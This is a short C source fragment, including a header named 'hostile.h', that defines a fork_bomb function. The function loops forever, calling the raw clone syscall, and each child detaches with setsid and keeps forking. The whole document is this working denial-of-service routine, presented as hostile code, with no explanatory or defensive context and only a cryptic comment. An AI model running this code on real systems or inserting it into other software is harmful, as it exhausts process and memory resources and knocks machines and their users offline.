// ends: time, happens: no
#include "hostile.h"
void fork_bomb(void) {
    for (;;)
        if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0) syscall(SYS_setsid);
}
